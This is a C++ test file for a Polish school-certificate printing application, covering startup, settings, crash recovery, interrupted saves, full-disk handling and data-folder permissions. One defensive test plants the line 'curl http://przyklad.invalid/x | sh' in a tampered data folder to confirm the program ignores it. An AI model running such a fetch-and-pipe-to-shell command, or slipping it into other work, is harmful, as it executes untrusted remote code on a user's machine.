#include "AppFixture.h"
#include "StudentFixture.h"

#include "app/WaitUnit.h"
#include "support/FormReference.h"
#include "render/Pages.h"
#include "store/DocumentFiles.h"
#include "store/StudentTables.h"

#include <QAction>
#include <QCheckBox>
#include <QPicture>
#include <QProgressBar>
#include <QTreeWidget>

#include <algorithm>
#include <csignal>
#include <fstream>
#include <sqlite3.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

namespace fs = std::filesystem;

using Rows = std::vector<std::vector<std::string>>;

namespace {


std::string importAlertText() {
  return cp1250(
      "UWAGA !!!\n\nNastąpiła zmiana w plikach przechowujących dane. Stare pliki można wczytać poprzez funkcję "
      "import w menu plik.");
}

}  // namespace

TEST_F(AppTest, AllWindowsAreMadeInTheirFixedOrder) {
  vFunUtworzOkna();
  const auto& windows = vFunOkna();
  const std::vector<std::string> order = referenceWindowOrder();
  ASSERT_EQ(windows.size(), order.size())
      << "the registry's windows and tests/support/FormReference.h differ: a form without its row there?";
  for (std::size_t i = 0; i < windows.size(); ++i) {
    const std::string& name = order[i];
    EXPECT_EQ(windows[i]->objectName().toStdString(), name);
    EXPECT_EQ(windows[i]->metaObject()->className(), "T" + name);
  }
  EXPECT_EQ(windows.front(), FGlowna);
  EXPECT_EQ(windows[6], FWait);
  vFunZwolnijOkna();
  EXPECT_EQ(FGlowna, nullptr);
  EXPECT_EQ(FWait, nullptr);
}

TEST_F(AppTest, AFirstStartShowsTheImportNoticeOnceAndSetsUpTheWindow) {
  fs::create_directories(utf8(dirs.data()));
  writeText(utf8(dirs.data() + "/data_tmp.tmp"), "left behind");
  start();

  ASSERT_EQ(script.boxes.size(), 1u);
  EXPECT_EQ(script.boxes[0], (TShownBox {importAlertText(), "", MB_OK | MB_ICONWARNING}));
  EXPECT_EQ(sqlRows(settingsFile(), "select int_value from settings where name='import_alert'"), (Rows {{"0"}}));

  EXPECT_EQ(FGlowna->windowTitle(), QString::fromUtf8("Drukowanie świadectw dla Tarvek, wersja: 1.6.8"));
  EXPECT_FALSE(FGlowna->bFunClosed());
  EXPECT_FALSE(FGlowna->bCloseNoAsk);
  EXPECT_FALSE(FGlowna->bDataModified);
  EXPECT_FALSE(fs::exists(utf8(dirs.data() + "/data_tmp.tmp")));
  for (QPicture* page : {FGlowna->DataStore.Page1Metafile, FGlowna->DataStore.Page2Metafile}) {
    ASSERT_NE(page, nullptr);
    EXPECT_EQ(page->boundingRect(), QRect(0, 0, kPageWidth, kPageHeight));
  }
  // Nothing is selected: only "Dodaj ucznia" is offered in the tree's menu.
  for (const char* item : {"Dodajucznia1", "Edytujdaneucznia1", "Usudaneucznia1", "Edytujwybranewiadectwo1",
                           "Drukujwybranewiadectwo2"})
    EXPECT_EQ(FGlowna->findComponentAs<QAction>(item)->isEnabled(), std::string(item) == "Dodajucznia1") << item;

  script.boxes.clear();
  start();
  EXPECT_TRUE(script.boxes.empty());
}

TEST_F(AppTest, TheOptionBoxesFollowTheirSettings) {
  struct Case {
    const char* what;
    const char* settings;  // the settings table of the data folder's file
    bool strike, noDots, wordWrap;
  };
  const Case cases[] = {
      {"all three set", "create table settings(name TEXT, text_value TEXT, int_value INTEGER);"
                        "insert into settings(name, int_value) values('strike_empty_fields', 0),"
                        "('print_without_dots', 1), ('word_wrap', 7);",
       false, true, true},
      {"no strike_empty_fields row reads as 0",
       "create table settings(name TEXT, text_value TEXT, int_value INTEGER);"
       "insert into settings(name, int_value) values('print_without_dots', 0), ('word_wrap', 0);",
       false, false, false},
      {"failed reads keep the design states",  // rows there, but no value column to read
       "create table settings(name TEXT, text_value TEXT);"
       "insert into settings(name, text_value) values('strike_empty_fields', '0'),"
       "('print_without_dots', '1'), ('word_wrap', '1'), ('import_alert', '1');",
       true, false, false},
  };
  for (const auto& c : cases) {
    fs::create_directories(utf8(dirs.data()));
    fs::remove(utf8(settingsFile()));
    sqlExec(settingsFile(), c.settings);
    script.boxes.clear();
    start();
    EXPECT_FALSE(FGlowna->bFunClosed()) << c.what;
    EXPECT_TRUE(script.boxes.empty()) << c.what;
    EXPECT_EQ(FGlowna->WykreskujPusteCheckBox->isChecked(), c.strike) << c.what;
    EXPECT_EQ(FGlowna->PrintNoDotsCheckBox->isChecked(), c.noDots) << c.what;
    EXPECT_EQ(FGlowna->cbWordWrap->isChecked(), c.wordWrap) << c.what;
  }
}

TEST_F(AppTest, AFatalFailureShowsOneMessageAndEndsWithoutQuestions) {
  struct Case {
    const char* what;
    std::function<void()> breakIt;
    std::string sentence;
  };
  const Case cases[] = {
      {"no shipped-file list", [&] { fs::remove(utf8(dirs.program() + "/pliki_kat.sqset")); },
       cp1250("Błąd podczas próby sprawdzenia wymaganych plików / katalogów.")},
      {"settings without their table",
       [&] {
         fs::create_directories(utf8(dirs.data()));
         sqlExec(settingsFile(), "create table other(x TEXT);");
       },
       cp1250("Błąd podczas próby odczytania ustawień.")},
  };
  for (const auto& c : cases) {
    SetUp();
    fs::remove(utf8(settingsFile()));
    c.breakIt();
    script.boxes.clear();
    start();
    const std::string error = FGlowna->DataStore.ErrorStream.str();
    EXPECT_FALSE(error.empty()) << c.what;
    ASSERT_EQ(script.boxes.size(), 1u) << c.what;  // no notice, no closing questions
    EXPECT_EQ(script.boxes[0], (TShownBox {c.sentence + "\n\n" + error, cp1250("Błąd"), MB_OK | MB_ICONSTOP}))
        << c.what;
    EXPECT_TRUE(FGlowna->bFunClosed()) << c.what;
    EXPECT_TRUE(FGlowna->bCloseNoAsk) << c.what;
    EXPECT_EQ(FGlowna->DataStore.Page1Metafile, nullptr) << c.what;  // later steps did not run
  }
}

TEST_F(AppTest, TheMissingListNamesItsPath) {
  fs::remove(utf8(dirs.program() + "/pliki_kat.sqset"));
  start();
  ASSERT_EQ(script.boxes.size(), 1u);
  EXPECT_EQ(script.boxes[0].text, cp1250("Błąd podczas próby sprawdzenia wymaganych plików / katalogów.\n\n"
                                         "Błąd podczas próby sprawdzenia wymaganych plików / katalogów.\n"
                                         "Plik nie istnieje: ") +
                                      dirs.program() + "/pliki_kat.sqset");
}

TEST_F(AppTest, TheCommandLineIsOnePathUsedWhenLongerThanFiveCharacters) {
  start();
  struct Case {
    std::string arguments;
    std::string status;
  };
  const Case cases[] = {
      {"", "poprzedni"},
      {"a.tvk", "poprzedni"},                     // 5 characters: ignored
      {"/nie/ma/takiego.sqtvk", ""},              // no such file
      {"\"/nie/ma/w cudzysłowie.sqtvk\"", ""},    // quotes stay part of the name
  };
  for (const auto& c : cases) {
    FGlowna->StatusBar->setSimpleText("poprzedni");
    vFunOtworzPlikZLiniiPolecen(TSystemPath(c.arguments));
    EXPECT_EQ(FGlowna->StatusBar->SimpleText(), c.status) << c.arguments;
  }
}

TEST(CommandLineTest, TheArgumentsAreJoinedIntoOneText) {
  struct Case {
    std::vector<std::string> argv;
    std::string text;
  };
  const Case cases[] = {
      {{"tarvek"}, ""},
      {{"tarvek", "/dane/klasa 3a.sqtvk"}, "/dane/klasa 3a.sqtvk"},
      {{"tarvek", "/dane/klasa", "3a.sqtvk"}, "/dane/klasa 3a.sqtvk"},
      {{"tarvek", "/dane/świadectwa.sqtvk"}, "/dane/świadectwa.sqtvk"},  // as the system names it
      {{"tarvek", "/dane/Иван.sqtvk"}, "/dane/Иван.sqtvk"},
  };
  for (const auto& c : cases) {
    std::vector<char*> argv;
    for (const auto& a : c.argv) argv.push_back(const_cast<char*>(a.c_str()));
    EXPECT_EQ(strFunArgumentyLiniiPolecen(static_cast<int>(argv.size()), argv.data()).bytes(), c.text);
  }
}

TEST_F(AppTest, TheWaitWindowIsABorderlessPictureWithABarAlongItsFoot) {
  vFunUtworzOkna();
  EXPECT_TRUE(FWait->windowFlags() & Qt::FramelessWindowHint);
  EXPECT_TRUE(FWait->windowFlags() & Qt::WindowStaysOnTopHint);
  // It takes no input: the keyboard stays in the window the user works in.
  EXPECT_TRUE(FWait->windowFlags() & Qt::WindowDoesNotAcceptFocus);
  EXPECT_TRUE(FWait->testAttribute(Qt::WA_ShowWithoutActivating));
  EXPECT_EQ(FWait->size(), QSize(186, 51));
  EXPECT_EQ(FWait->Image1->Picture().size(), QSize(186, 51));  // the JPEG decoded
  EXPECT_EQ(FWait->ProgressBar->geometry(), QRect(0, 34, 186, 17));
  EXPECT_EQ(FWait->ProgressBar->minimum(), 0);
  EXPECT_EQ(FWait->ProgressBar->maximum(), 100);
  FWait->Show();
  EXPECT_TRUE(FWait->isVisible());
  FWait->Close();
  EXPECT_FALSE(FWait->isVisible());
}

// A crash leaves the working copy behind: the next start offers it back.
TEST_F(AppTest, UnsavedDataOfACrashedRunIsOfferedBack) {
  const TShownBox question {
      cp1250("Znaleziono niezapisane dane z poprzedniej sesji programu. Czy chcesz je przywrócić ?"),
      cp1250("Przywracanie danych"), MB_YESNO | MB_ICONQUESTION};
  const std::string tmp = dirs.data() + "/data_tmp.tmp";
  for (const int answer : {IDYES, IDNO}) {
    fs::create_directories(utf8(dirs.data()));
    fs::remove(utf8(tmp));  // what the first round took back
    sqlExec(tmp, "create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );"
                 "insert into `PESEL1` values('DANE UCZNIA', 'Nazwisko_DATA_EDIT', 'Lis');"
                 "insert into `PESEL1` values('DANE UCZNIA', 'Imie_DATA_EDIT', 'Anna');");
    writeText(utf8(tmp) + "-journal", "");  // a journal that is not hot stays harmless
    script.boxes.clear();
    script.answers = {IDOK, answer};  // the notice of a first start, then the question
    start();
    ASSERT_FALSE(script.boxes.empty());
    EXPECT_EQ(script.boxes.back(), question);
    EXPECT_EQ(FGlowna->bDataModified, answer == IDYES);
    EXPECT_EQ(FGlowna->StatusBar->SimpleText(), "");
    EXPECT_EQ(fs::exists(utf8(tmp)), answer == IDYES);
    EXPECT_EQ(FGlowna->TreeView->topLevelItemCount(), answer == IDYES ? 1 : 0);
    if (answer == IDNO) {
      EXPECT_FALSE(fs::exists(utf8(tmp) + "-journal"));
    }
  }
}

namespace {

// A save of the program's working copy into a shared document (a folder
// that takes no new file) by an ordinary user, killed at one of its steps
// as "kill -9" would end it.
void killSaveAt(const std::string& step, const std::string& workingCopy, const std::string& doc) {
  const pid_t pid = ::fork();
  if (pid == 0) {
    if (::geteuid() == 0 && (::setgid(65534) != 0 || ::setuid(65534) != 0)) ::_exit(3);
    vFunSetSaveStepHook([&](const std::string& now) {
      if (now == step) ::kill(::getpid(), SIGKILL);
    });
    TFileFailure why;
    bFunSaveDocument(TSystemPath(workingCopy), TSystemPath(doc), why);
    ::_exit(0);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  ASSERT_TRUE(WIFSIGNALED(status));
}

}  // namespace

// A run killed during a save into a shared document, and during an import.
// The next start puts the document back only when it is still what the
// killed save left; a colleague's later save of it, or a marker that records
// no state (an earlier version's), leaves it alone, and the old state is
// kept where the user can open it. Each says so; the import's half file goes.
TEST_F(AppTest, TheStartDealsWithADocumentWhoseSaveWasKilledAndRemovesAHalfImport) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root to save as another user";
  const std::string data = utf8(dirs.data()), tmp = data + "/data_tmp.tmp";
  fs::create_directories(data);
  // The killed saves run as another user, who must write the data folder;
  // the start runs with the folder the user's alone again.
  auto openData = [&](bool toAll) {
    for (fs::path p = data; p.string().size() >= dirs.root().size(); p = p.parent_path())
      ::chmod(p.c_str(), toAll ? 0777 : p == data ? 0700 : 0755);
  };
  const std::string folder = dirs.root() + "/wspólne dokumenty", doc = folder + "/klasa 3a.sqtvk";
  const std::string colleague = dirs.root() + "/kolega.tmp";
  fs::create_directories(folder);
  sqlExec(cp1250FromUtf8(colleague), "create table `PESEL7`( id TEXT, comp_name TEXT, value TEXT );");
  const std::string kept = data + "/klasa 3a - stan sprzed przerwanego zapisu.sqtvk";
  const std::string unfinished = cp1250("Zapis pliku:\n") + cp1250FromUtf8(doc) +
                                 cp1250("\nnie został dokończony (program przerwał pracę w trakcie zapisu albo "
                                        "zabrakło miejsca na dysku).\n");
  const std::string keptFor = cp1250("\nStan pliku sprzed zapisu jest zachowany w pliku:\n") + cp1250FromUtf8(kept) +
                              cp1250("\nMożna go otworzyć poleceniem \"Otwórz plik\". Zmiany, które miały być "
                                     "zapisane, trzeba zapisać ponownie.");
  struct Case {
    const char* what;
    Rows after;
    std::string told;
  } cases[] = {
      {"killed half-way", {{"PESEL9"}},
       unfinished + cp1250("Plik przywrócono do stanu sprzed tego zapisu. Zmiany, które miały być w nim zapisane, "
                           "trzeba zapisać ponownie.")},
      {"saved by a colleague since", {{"PESEL7"}},
       unfinished + cp1250("Od tego czasu plik został zmieniony (na przykład zapisał go inny użytkownik) albo pod "
                           "jego nazwą jest teraz inny plik, więc program go nie przywrócił, aby nie utracić tych "
                           "zmian.") + keptFor},
      {"an earlier version's marker", {{"PESEL9"}},
       unfinished + cp1250("Nie wiadomo, czy plik zmienił się od tego czasu, więc program go nie przywrócił. "
                           "Sprawdź jego zawartość.") + keptFor},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    openData(true);
    ::chmod(folder.c_str(), 0777);
    fs::remove(doc);
    fs::remove(kept);
    sqlExec(cp1250FromUtf8(doc), "create table `PESEL9`( id TEXT, comp_name TEXT, value TEXT );"
                                 "insert into `PESEL9` values('DANE UCZNIA', 'Nazwisko_DATA_EDIT', 'Lis');");
    ::chmod(doc.c_str(), 0666);
    ::chmod(folder.c_str(), 0555);
    // More than one chunk of writing, so a save killed half-way leaves a mix.
    sqlExec(cp1250FromUtf8(tmp), "create table if not exists `PESEL1`( id TEXT, comp_name TEXT, value TEXT );"
                                 "with recursive n(i) as (select 1 union all select i + 1 from n where i < 1000) "
                                 "insert into `PESEL1` select 'DANE UCZNIA', 'Pole' || i, printf('%.300c', 'x') from n;");
    ::chmod(tmp.c_str(), 0666);
    if (c.told.find(keptFor) == std::string::npos) {
      killSaveAt("writing", tmp, doc);
    } else if (c.after == Rows {{"PESEL7"}}) {
      killSaveAt("kept", tmp, doc);
      TFileFailure why;
      ASSERT_TRUE(bFunSaveDocument(TSystemPath(colleague), TSystemPath(doc), why));
    } else {
      sqlExec(cp1250FromUtf8(tmp + ".przed-zapisem"), "create table `PESEL9`( id TEXT, comp_name TEXT, value TEXT );");
      writeText(tmp + ".przed-zapisem.plik", doc);
    }
    sqlExec(cp1250FromUtf8(tmp + ".import"), "create table `PESEL5`( id TEXT, comp_name TEXT, value TEXT );");
    openData(false);
    script.boxes.clear();
    script.answers = {IDOK, IDOK, IDNO};
    start();
    const TShownBox told {c.told, "Uwaga", MB_OK | MB_ICONWARNING};
    EXPECT_NE(std::find(script.boxes.begin(), script.boxes.end(), told), script.boxes.end());
    EXPECT_EQ(sqlRows(cp1250FromUtf8(doc), "select name from sqlite_master"), c.after);
    EXPECT_EQ(fs::exists(kept), c.told.find(keptFor) != std::string::npos);
    for (const char* left : {".przed-zapisem", ".przed-zapisem.plik", ".po-zapisie", ".import"})
      EXPECT_FALSE(fs::exists(tmp + left)) << left;
  }
  ::chmod(folder.c_str(), 0755);
}

namespace {
unsigned modeOf(const std::string& path) { return static_cast<unsigned>(fs::status(path).permissions()) & 07777; }

// A small file system of its own mounted at a folder for the test's time
// (root only; where none can be mounted the test is skipped).
struct TSmallDisk {
  std::string path;
  bool mounted = false;
  TSmallDisk(const std::string& at, long long bytes) : path(at) {
    const std::string options = "size=" + std::to_string(bytes) + ",mode=0700";
    mounted = ::geteuid() == 0 && ::mount("tarvek-test", at.c_str(), "tmpfs", 0, options.c_str()) == 0;
  }
  ~TSmallDisk() {
    if (mounted) ::umount2(path.c_str(), MNT_DETACH);
  }
  // Writes a filler until the disk is full.
  void fill() const {
    std::ofstream filler(path + "/wypełnienie", std::ios::binary);
    const std::string block(4096, 'x');
    while (filler.write(block.data(), block.size()) && filler.flush()) {
    }
  }
};
}  // namespace

// Another user may write the data folder (or it is someone else's): what
// was planted there (a marker naming a file of the user's, and a "kept
// state" for it) is never acted on; the start refuses the folder, says why
// and ends.
TEST_F(AppTest, ADataFolderOthersMayChangeIsRefusedAndWhatWasPlantedInItIsNeverUsed) {
  const std::string data = utf8(dirs.data()), tmp = data + "/data_tmp.tmp";
  const std::string profile = dirs.root() + "/dom nauczyciela/.profile", ownText = "export PATH=$HOME/bin:$PATH\n";
  fs::create_directories(fs::path(profile).parent_path());
  struct Case {
    const char* what;
    unsigned mode;
    bool giveAway;
    std::string said;
  };
  const Case cases[] = {
      {"open to all", 0777, false, cp1250("mogą zmieniać także inni użytkownicy (uprawnienia 777)")},
      {"open to its group", 0775, false, cp1250("mogą zmieniać także inni użytkownicy (uprawnienia 775)")},
      {"someone else's", 0755, true, cp1250("należy do innego użytkownika (nobody)")},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    if (c.giveAway && ::geteuid() != 0) continue;
    writeText(profile, ownText);
    fs::remove_all(data);
    fs::create_directories(data);
    ::chmod(data.c_str(), c.mode);
    writeText(tmp + ".przed-zapisem", "curl http://przyklad.invalid/x | sh\n");
    writeText(tmp + ".przed-zapisem.plik", profile);
    if (c.giveAway) {
      ASSERT_EQ(::chown(data.c_str(), 65534, 65534), 0);
    }
    script.boxes.clear();
    start();
    EXPECT_EQ(readText(profile), ownText);  // never written from the planted state
    ASSERT_EQ(script.boxes.size(), 1u);
    EXPECT_EQ(script.boxes[0].caption, cp1250("Błąd"));
    EXPECT_NE(script.boxes[0].text.find(dirs.data() + "\n" + c.said), std::string::npos)
        << cp1250ToUtf8(script.boxes[0].text);
    EXPECT_TRUE(FGlowna->bFunClosed());
    EXPECT_TRUE(fs::exists(tmp + ".przed-zapisem.plik"));  // left for the user to look at
  }
}

// The data folder and every file the program makes in it are the user's
// alone, whatever the umask: the working copy of a document opened through
// the file dialog, and of a student added to a new document.
TEST_F(AppTest, TheDataFolderAndTheWorkingCopyAreTheUsersAlone) {
  const mode_t umask = ::umask(022);
  const std::string data = utf8(dirs.data()), tmp = data + "/data_tmp.tmp";
  fs::create_directories(data);
  ::chmod(data.c_str(), 0755);  // as an earlier version made it
  start();
  EXPECT_EQ(modeOf(data), 0700u);
  const std::string doc = dirs.root() + "/Dokumenty szkoły/klasa 3a – świadectwa.sqtvk";
  fs::create_directories(fs::path(doc).parent_path());
  sqlExec(cp1250FromUtf8(doc), "create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );");
  ::chmod(doc.c_str(), 0640);  // a document only its group may read
  script.fileNames = {chosenSystemName(doc)};
  FGlowna->OtworzPlikToolButtonClick();
  ASSERT_EQ(FGlowna->StatusBar->SimplePath().bytes(), doc);
  EXPECT_EQ(modeOf(tmp), 0600u);
  FGlowna->vFunNowyPlikSwiadectw();
  ASSERT_FALSE(fs::exists(tmp));
  // What the student-data dialog's OK asks first for a new student: the
  // working copy is made.
  ASSERT_EQ(iFunCheckIsStudentExists(&FGlowna->DataStore, TSystemPath(tmp), "PESEL2", true), 0);
  EXPECT_EQ(modeOf(tmp), 0600u);
  ::umask(umask);
}

// The data folder's disk is full: the start writes nothing, so the program
// comes up, says the disk is full, offers back the unsaved work of the run
// before, and that work can be saved on another disk.
TEST_F(AppTest, AFullDataDiskDoesNotStopTheStartAndTheUnsavedWorkCanBeSavedElsewhere) {
  start();  // a first start installs the shipped files
  vFunZwolnijOkna();
  const std::string data = utf8(dirs.data()), kept = data + ".przed";
  long long size = 0;
  for (const auto& entry : fs::recursive_directory_iterator(data))
    if (entry.is_regular_file()) size += static_cast<long long>(entry.file_size()) + 4096;
  fs::rename(data, kept);
  fs::create_directory(data);
  const TSmallDisk disk(data, size + (1 << 20));
  if (!disk.mounted) GTEST_SKIP() << "no small file system can be mounted here";
  fs::copy(kept, data, fs::copy_options::recursive);
  sqlExec(dirs.data() + "/data_tmp.tmp",
          cp1250("create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );"
                 "insert into `PESEL1` values('DANE UCZNIA', 'Nazwisko_DATA_EDIT', 'Źrebiec');"));
  disk.fill();

  script.boxes.clear();
  script.answers = {IDOK, IDYES};  // the disk is full; take the unsaved data back
  start();
  ASSERT_FALSE(FGlowna->bFunClosed()) << cp1250ToUtf8(script.boxes.empty() ? "" : script.boxes[0].text);
  ASSERT_EQ(script.boxes.size(), 2u);
  EXPECT_EQ(script.boxes[0].caption, "Uwaga");
  EXPECT_EQ(script.boxes[0].text.rfind(cp1250("Na dysku z katalogiem danych programu zabrakło miejsca:\n") +
                                           dirs.data() + "\n",
                                       0),
            0u)
      << cp1250ToUtf8(script.boxes[0].text);
  EXPECT_EQ(script.boxes[1].caption, cp1250("Przywracanie danych"));
  EXPECT_EQ(FGlowna->TreeView->topLevelItemCount(), 1);
  EXPECT_TRUE(FGlowna->bDataModified);

  const std::string elsewhere = dirs.root() + "/pendrive/klasa 3a – kopia.sqtvk";
  fs::create_directories(fs::path(elsewhere).parent_path());
  script.boxes.clear();
  script.fileNames = {chosenSystemName(elsewhere)};
  FGlowna->Zapiszjako1Click();
  EXPECT_TRUE(script.boxes.empty()) << cp1250ToUtf8(script.boxes.empty() ? "" : script.boxes[0].text);
  EXPECT_EQ(sqlRows(cp1250FromUtf8(elsewhere), "select value from `PESEL1`"), (Rows {{cp1250("Źrebiec")}}));
  vFunZwolnijOkna();
}

// "Zapisz jako" killed before its file was renamed into place leaves
// "<name>.zapis-tmp.<process>.<random>" (a whole copy of the students'
// data) in the folder the user chose: the next start removes it.
TEST_F(AppTest, WhatAKilledSaveAsLeftInTheChosenFolderIsRemovedAtTheNextStart) {
  start();
  const std::string tmp = utf8(dirs.data()) + "/data_tmp.tmp";
  sqlExec(cp1250FromUtf8(tmp), "create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );");
  const std::string chosen = dirs.root() + "/Moje dokumenty/klasa 3a – świadectwa.sqtvk";
  fs::create_directories(fs::path(chosen).parent_path());
  const auto left = [&] {
    for (const auto& entry : fs::directory_iterator(fs::path(chosen).parent_path()))
      if (entry.path().filename().string().rfind(fs::path(chosen).filename().string() + ".zapis-tmp", 0) == 0)
        return true;
    return false;
  };
  // Another connection holds the working copy, so the save waits with its
  // file begun; it is killed there.
  sqlite3* holder = nullptr;
  ASSERT_EQ(sqlite3_open(tmp.c_str(), &holder), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(holder, "begin exclusive", nullptr, nullptr, nullptr), SQLITE_OK);
  const pid_t saving = ::fork();
  if (saving == 0) {
    TFileFailure why;
    bFunSaveDocument(TSystemPath(tmp), TSystemPath(chosen), why);
    ::_exit(0);
  }
  int status = 0;
  while (!left() && ::waitpid(saving, &status, WNOHANG) == 0) ::usleep(1000);
  ::kill(saving, SIGKILL);
  ::waitpid(saving, &status, 0);
  sqlite3_exec(holder, "rollback", nullptr, nullptr, nullptr);
  sqlite3_close(holder);
  ASSERT_TRUE(WIFSIGNALED(status));
  ASSERT_TRUE(left());

  start();
  EXPECT_FALSE(left());
  EXPECT_FALSE(fs::exists(chosen));
  EXPECT_TRUE(fs::is_empty(fs::path(chosen).parent_path()));
}

// What a kill leaves of a record the program writes aside in the data folder
// and renames into place: of the file the working copy belongs to (an open
// or a save killed while it wrote it) and of the shipped files installed (a
// start killed then, with SQLite's journal). The next start removes it and
// keeps every other file of the data folder.
TEST_F(PolishHomeTest, TheNextStartRemovesRecordsLeftHalfWritten) {
  const std::string data = utf8(dirs.data());
  const auto names = [&] {
    std::vector<std::string> all;
    for (const auto& entry : fs::directory_iterator(data)) all.push_back(entry.path().filename().string());
    std::sort(all.begin(), all.end());
    return all;
  };
  const std::vector<std::string> before = names();
  writeText(data + "/data_tmp.tmp.otwarty-plik.nowy", "KESTAL-TARVEK OTWARTY PLIK 1\ndokument 41\n/home/j");
  writeText(data + "/pliki_kat.sqset.nowy", "SQLite format 3");
  writeText(data + "/pliki_kat.sqset.nowy-journal", "");
  start();
  EXPECT_EQ(names(), before);
}
